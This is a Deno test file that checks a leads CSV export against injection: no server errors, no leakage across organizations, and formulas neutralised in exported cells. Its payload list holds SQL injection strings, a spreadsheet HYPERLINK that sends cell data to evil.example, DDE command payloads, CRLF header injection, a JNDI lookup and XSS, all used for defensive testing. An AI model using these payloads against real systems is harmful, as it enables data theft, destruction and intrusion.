/**
 * Injection attempts in every filter of the leads export and in every text field a lead
 * carries (SQL, spreadsheet formulas, header CRLF, control characters, oversized and
 * direction-changing Unicode): never a 5xx, never another organization's lead, a refusal
 * says what is wrong, and what is stored comes back out as the same text, formulas
 * neutralised and each value one CSV cell.
 */
import assert from "node:assert/strict";
// @ts-types="@types/papaparse"
import Papa from "papaparse";
import { call, json, withScratchOrg } from "./support/leads-http.ts";

const PAYLOADS = [
  "' or 1=1 --",
  "'); drop table public.leads; --",
  '" or ""="',
  "new' union select phone from public.leads where org_id <> org_id --",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "a\r\nSet-Cookie: pwned=1",
  "a\u0007b\u001b[31mred\u001b[0m",
  "\u202Egnp.exe",
  "🦄".repeat(2_000),
  "%00%27%22",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
];

/** Acme's seeded leads' numbers: none may come out of a scratch organization's export. */
const ACME_PHONES = ["+14155550101", "+13055550104"];

Deno.test("injection: every export filter, every payload: no 5xx, nothing of another organization", async () => {
  await withScratchOrg(
    async ({ org }) => {
      let refused = 0;
      let empty = 0;
      for (const payload of PAYLOADS) {
        for (const filter of ["status", "tags", "state", "import_id", "org_id"]) {
          const query = new URLSearchParams({ org_id: org, [filter]: payload });
          const answer = await call(`/export?${query}`);
          assert.ok(answer.status < 500, `${filter}=${payload}: ${answer.status} ${answer.text}`);
          for (const phone of ACME_PHONES) {
            assert.ok(!answer.text.includes(phone), `${filter}=${payload}: another org's lead`);
          }
          if (answer.status === 200) {
            empty++;
            assert.equal(answer.text.trim().split("\n").length, 1, `${filter}: header only`);
          } else {
            refused++;
            const { error } = json<{ error: { code: string; message: string } }>(answer);
            assert.ok(error.code && error.message, `${filter}=${payload}: says why`);
          }
        }
      }
      assert.ok(refused > 0 && empty > 0, `${refused} refused, ${empty} empty exports`);
      assert.equal(refused + empty, PAYLOADS.length * 5);
    },
    {},
    "Injection test",
  );
});

Deno.test("injection: payloads in every text field are stored as text and exported as one neutralised cell each", async () => {
  await withScratchOrg(
    async ({ org, sql }) => {
      // (email is checked as an address, so it gets none of these.)
      const fields = ["first_name", "last_name", "address", "city", "notes"] as const;
      const stored: string[] = [];
      for (const [i, payload] of PAYLOADS.entries()) {
        const value = payload.slice(0, 250);
        const phone = `+1415555${String(2000 + i).padStart(4, "0")}`;
        try {
          await sql`insert into public.leads (org_id, phone, first_name, last_name, address, city,
            notes)
          values (${org}, ${phone}, ${value}, ${value}, ${value}, ${value}, ${value})`;
          stored.push(phone);
        } catch (error) {
          // A value a field refuses (an email that is not one, a control character): a
          // constraint's 22023/23514, never anything else.
          const code = (error as { code?: string }).code ?? "";
          assert.match(code, /^(22|23)/, `${payload}: ${error}`);
        }
      }
      assert.ok(stored.length > 0);
      const answer = await call(`/export?org_id=${org}`);
      assert.equal(answer.status, 200, answer.text);
      const rows = Papa.parse<Record<string, string>>(answer.text.replace(/^\uFEFF/, ""), {
        header: true,
        skipEmptyLines: true,
      });
      assert.deepEqual(rows.errors, [], "the export is well-formed CSV");
      assert.equal(rows.data.length, stored.length, "one row per lead, whatever its text");
      for (const row of rows.data) {
        for (const field of fields) {
          const cell = row[field] ?? "";
          assert.ok(!/^[=+\-@\t\r]/.test(cell), `${field}: a formula is neutralised (${cell})`);
        }
      }
      assert.equal(
        (await sql`select count(*)::int as n from public.leads where org_id = ${org}`)[0].n,
        stored.length,
        "and nothing else was written",
      );
    },
    {},
    "Injection text test",
  );
});
